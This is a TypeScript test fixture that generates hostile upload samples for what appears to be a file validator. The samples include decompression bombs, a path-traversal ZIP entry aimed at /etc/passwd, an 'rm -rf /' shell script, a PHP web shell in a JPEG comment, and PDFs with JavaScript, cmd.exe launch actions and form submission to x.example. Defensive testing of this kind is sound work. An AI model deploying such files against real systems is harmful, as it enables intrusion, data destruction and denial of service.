import { deflateRawSync, deflateSync } from 'node:zlib'
import { hugePng, jpeg, pdf, png } from './sample-files'

// Files that somebody might hand in to harm whoever opens them. None is kept in the repository: a virus scanner on a
// developer's machine would take them away.

/** The file by which virus scanners are tried out, in two parts for the same reason. */
export const eicar = Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''))

type Pdf = { readonly catalog?: string; readonly objects?: readonly (string | Buffer)[]; readonly trailer?: string }

/** A PDF of one page; `objects` follow as 5, 6, 7 …. */
export function aPdf({ catalog = '', objects = [], trailer = '' }: Pdf = {}): Buffer {
  const own = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>',
    '<</Length 0>>stream\n\nendstream',
  ]
  let bytes = Buffer.from('%PDF-1.7\n')
  const places: number[] = []
  for (const [index, object] of [...own, ...objects].entries()) {
    places.push(bytes.length)
    bytes = Buffer.concat([bytes, Buffer.from(`${String(index + 1)} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')])
  }
  const lines = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const size = String(places.length + 1)
  return Buffer.concat([bytes, Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${lines}trailer<</Root 1 0 R/Size ${size}${trailer}>>\nstartxref\n${String(bytes.length)}\n%%EOF\n`)])
}

const stream = (dict: string, bytes: Uint8Array) =>
  Buffer.concat([Buffer.from(`<<${dict}/Length ${String(bytes.length)}>>stream\n`), bytes, Buffer.from('\nendstream')])
const packed = (dict: string, plain: Buffer | string) => stream(`${dict}/Filter/FlateDecode`, deflateSync(plain))
/** An object that stands compressed inside another. */
const hidden = (object: string) => packed('/Type/ObjStm/N 1/First 5', `20 0 ${object}`)

function zip(name: string, content: Buffer): Buffer {
  const body = deflateRawSync(content)
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50)
  head.writeUInt16LE(20, 4)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(body.length, 18)
  head.writeUInt32LE(content.length, 22)
  head.writeUInt16LE(name.length, 26)
  const entry = Buffer.alloc(46)
  entry.writeUInt32LE(0x02014b50)
  head.copy(entry, 6, 4, 30)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(46 + name.length, 12)
  end.writeUInt32LE(30 + name.length + body.length, 16)
  return Buffer.concat([head, Buffer.from(name), body, entry, Buffer.from(name), end])
}

/** A comment in a JPEG: everything up to the picture stays as it was. */
function withComment(picture: Buffer, words: string): Buffer {
  const length = Buffer.alloc(2)
  length.writeUInt16BE(words.length + 2)
  return Buffer.concat([picture.subarray(0, 2), Buffer.of(0xff, 0xfe), length, Buffer.from(words), picture.subarray(2)])
}

const script = '<script>fetch("/api/ho-so")</script>'
const action = (words: string) => `/OpenAction<<${words}>>`
const many = (bytes: number) => Buffer.alloc(bytes, ' ')

type Code = 'empty' | 'wrong-kind' | 'unreadable' | 'disguised' | 'active' | 'too-large'

/** Each with the refusal it must meet. */
export const hostileFiles: readonly (readonly [Code, string, () => Buffer | Promise<Buffer>])[] = [
  ['empty', 'nothing', () => Buffer.alloc(0)],
  ['wrong-kind', 'a text', () => Buffer.from('xin chào')],
  ['wrong-kind', 'a web page', () => Buffer.from(`<!doctype html>${script}`)],
  ['wrong-kind', 'a drawing with a script', () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`)],
  ['wrong-kind', 'the file for trying scanners', () => eicar],
  ['wrong-kind', 'a ZIP', () => zip('a.txt', Buffer.from('a'))],
  ['wrong-kind', 'a ZIP that becomes 50 MB', () => zip('a.txt', many(50_000_000))],
  ['wrong-kind', 'a ZIP with a way out of its folder', () => zip('../../etc/passwd', Buffer.from('a'))],
  ['wrong-kind', 'a Word document', () => zip('word/document.xml', Buffer.from('<w:document/>'))],
  ['wrong-kind', 'a program for Windows', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)])],
  ['wrong-kind', 'a program for Linux', () => Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(500)])],
  ['wrong-kind', 'a script of a shell', () => Buffer.from('#!/bin/sh\nrm -rf /\n')],
  ['wrong-kind', 'a GIF', () => Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1')],
  ['wrong-kind', 'a GIF that is a Java archive', () => Buffer.concat([Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'), zip('A.class', Buffer.from('a'))])],
  ['wrong-kind', 'a PDF behind 900 bytes of something else', () => Buffer.concat([Buffer.alloc(900, 'x'), aPdf()])],
  ['wrong-kind', 'PostScript', () => Buffer.from('%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n')],
  ['unreadable', 'a PDF cut off', () => aPdf().subarray(0, 60)],
  ['unreadable', 'a PDF of nothing but its head', () => Buffer.from('%PDF-1.7\n')],
  ['unreadable', 'a PDF with a password', () => aPdf({ trailer: '/Encrypt 5 0 R/ID[<00><00>]', objects: ['<</Filter/Standard/V 2/R 3/O(x)/U(x)/P -4>>'] })],
  ['unreadable', 'a PDF whose password is not there', () => Buffer.from(pdf().toString().replace('<</Root', '<</Encrypt 9 0 R/Root'))],
  ['unreadable', 'a PDF that becomes 500 MB', () => aPdf({ objects: [packed('', many(250_000_000)), packed('', many(250_000_000))] })],
  ['unreadable', 'a PDF compressed twice', () => aPdf({ objects: [stream('/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(many(50_000_000))))] })],
  ['unreadable', 'a PDF with a picture of 10,000 million pixels', () => aPdf({ objects: [stream('/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/CCITTFaxDecode', Buffer.from('x'))] })],
  ['unreadable', 'a PDF nested 5,000 deep', () => aPdf({ objects: ['['.repeat(5000) + ']'.repeat(5000)] })],
  ['disguised', 'a PDF that is a ZIP', () => Buffer.concat([aPdf(), zip('a.txt', Buffer.from('a'))])],
  ['disguised', 'a PDF with a ZIP before its end', () => aPdf({ objects: [stream('', zip('a.txt', Buffer.from('a')))] })],
  ['disguised', 'a PDF with a web page behind it', () => Buffer.concat([aPdf(), Buffer.from(script)])],
  ['disguised', 'a PDF with a program behind it', () => Buffer.concat([aPdf(), Buffer.from('MZ\x90\x00\x03', 'latin1'), Buffer.alloc(300, 'x')])],
  ['active', 'a PDF with JavaScript', () => aPdf({ catalog: action('/S/JavaScript/JS(app.alert(1))') })],
  ['active', 'a PDF with JavaScript under other letters', () => aPdf({ catalog: action('/S/J#61vaScript/J#53(app.alert(1))') })],
  ['active', 'a PDF with JavaScript in an object of its own', () => aPdf({ catalog: '/OpenAction 5 0 R', objects: ['<</S/JavaScript/JS 6 0 R>>', '(app.alert(1))'] })],
  ['active', 'a PDF with JavaScript in a compressed object', () => aPdf({ catalog: '/OpenAction 20 0 R', objects: [hidden('<</S/JavaScript/JS(app.alert(1))>>')] })],
  ['active', 'a PDF with JavaScript by name', () => aPdf({ catalog: '/Names<</JavaScript<</Names[(a)5 0 R]>>>>', objects: ['<</S/JavaScript/JS(a)>>'] })],
  ['active', 'a PDF with JavaScript on a page', () => aPdf({ objects: ['<</Type/Page/AA<</O<</S/JavaScript/JS(a)>>>>>>'] })],
  ['active', 'a PDF with JavaScript in a field', () => aPdf({ objects: ['<</Type/Annot/Subtype/Widget/FT/Tx/AA<</K<</S/JavaScript/JS(a)>>>>>>'] })],
  ['active', 'a PDF with JavaScript that nothing leads to', () => aPdf({ objects: ['<</S/JavaScript/JS(a)>>'] })],
  ['active', 'a PDF that starts a program', () => aPdf({ catalog: action('/S/Launch/F(cmd.exe)') })],
  ['active', 'a PDF whose link starts a program', () => aPdf({ objects: ['<</Type/Annot/Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)>>>>>>'] })],
  ['active', 'a PDF that sends a form', () => aPdf({ catalog: action('/S/SubmitForm/F(http://x.example)') })],
  ['active', 'a PDF with a file inside', () => aPdf({ catalog: '/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>', objects: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', stream('/Type/EmbeddedFile', Buffer.from('MZ'))] })],
  ['active', 'a PDF with a file pinned to a page', () => aPdf({ objects: ['<</Type/Annot/Subtype/FileAttachment/FS 6 0 R>>', '<</Type/Filespec/F(a.exe)>>'] })],
  ['active', 'a PDF with a form of XML', () => aPdf({ catalog: '/AcroForm<</XFA 5 0 R/Fields[]>>', objects: [stream('', Buffer.from('<xdp:xdp/>'))] })],
  ['active', 'a PDF with a film', () => aPdf({ objects: ['<</Type/Annot/Subtype/RichMedia/RichMediaContent<<>>>>'] })],
  ['unreadable', 'a JPEG without a picture', () => Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex')],
  ['unreadable', 'a JPEG that is a web page', () => Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.from(script)])],
  ['unreadable', 'a JPEG cut off', async () => (await jpeg(400, 400)).subarray(0, 700)],
  ['unreadable', 'a picture of 100,001,000 pixels', () => hugePng(100_001, 1000)],
  ['disguised', 'a JPEG with a ZIP behind it', async () => Buffer.concat([await jpeg(), zip('a.txt', Buffer.from('a'))])],
  ['disguised', 'a JPEG with a web page behind it', async () => Buffer.concat([await jpeg(), Buffer.from(script)])],
  ['disguised', 'a JPEG with a script in its notes', async () => withComment(await jpeg(), `*/=1;/* ${script}`)],
  ['disguised', 'a JPEG with PHP in its notes', async () => withComment(await jpeg(), '<?php system($_GET[0]); ?>')],
  ['disguised', 'a JPEG with a PDF behind it', async () => Buffer.concat([await jpeg(), aPdf()])],
  ['disguised', 'a PNG with a ZIP behind it', async () => Buffer.concat([await png(), zip('a.txt', Buffer.from('a'))])],
  ['disguised', 'a PNG with a program behind it', async () => Buffer.concat([await png(), Buffer.from('MZ\x90\x00\x03', 'latin1')])],
  ['unreadable', 'a PNG cut off', async () => (await png(400, 400)).subarray(0, 200)],
  ['too-large', 'one byte more than may come in', () => Buffer.concat([aPdf(), many(25 * 1024 * 1024)])],
  ['too-large', 'a PDF of 11 MB', () => aPdf({ objects: [stream('', Buffer.alloc(11 * 1024 * 1024))] })],
]
